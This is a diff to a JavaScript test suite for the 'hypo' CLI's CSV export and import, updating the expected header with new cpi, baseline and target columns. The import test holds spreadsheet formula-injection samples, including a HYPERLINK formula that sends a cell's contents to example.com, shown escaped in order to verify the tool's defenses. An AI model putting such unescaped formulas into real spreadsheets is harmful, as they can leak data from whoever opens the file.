@@ -34,7 +34,7 @@ describe('hypo export', () => {
     const csv = result.stdout;
     expect(
       csv.startsWith(
-        'id,kind,file,title,statement,status,segment,journey,touchpoint,metric,metric_type,success,importance,risk,evidence,owner,created,review_by,tags,code\r\n',
+        'id,kind,file,title,statement,status,segment,journey,touchpoint,metric,metric_type,cpi,baseline,target,success,importance,risk,evidence,owner,created,review_by,tags,code\r\n',
       ),
     ).toBe(true);
     expect(csv.endsWith('\r\n')).toBe(true);
@@ -126,7 +126,7 @@ describe('hypo export, then hypo import', () => {
     expect((await runCli(['-C', source.root, 'export', '--kind', 'hypothesis', '--out', 'hazards.csv'])).code).toBe(0);
     const csv = readFileSync(path.join(source.root, 'hazards.csv'), 'utf8');
     expect(csv).toContain(
-      `,"'=HYPERLINK(""https://example.com/?d=""&B2,""Öppna"")",'=1+1,open,'+cmd,'-köpa,,'@SUM(A1),,'\t=2+2 är fyra,,,,'@elin,,,'-a; =b; @c,,''=redan citerad\r\n`,
+      `,"'=HYPERLINK(""https://example.com/?d=""&B2,""Öppna"")",'=1+1,open,'+cmd,'-köpa,,'@SUM(A1),,,,,'\t=2+2 är fyra,,,,'@elin,,,'-a; =b; @c,,''=redan citerad\r\n`,
     );
     const cells = parseCsvText(csv, 'hazards.csv').rows.flatMap((row) => row.cells);
     expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
